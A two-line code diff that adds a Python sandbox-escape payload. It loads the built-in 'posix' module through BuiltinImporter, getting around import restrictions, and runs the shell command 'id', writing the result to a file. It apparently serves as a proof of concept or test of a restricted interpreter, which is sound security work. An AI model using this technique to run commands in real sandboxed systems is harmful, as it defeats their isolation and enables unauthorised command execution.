@@ -1,0 +1,2 @@
+from importlib.machinery import BuiltinImporter
+BuiltinImporter.load_module("posix").system("id>pf")
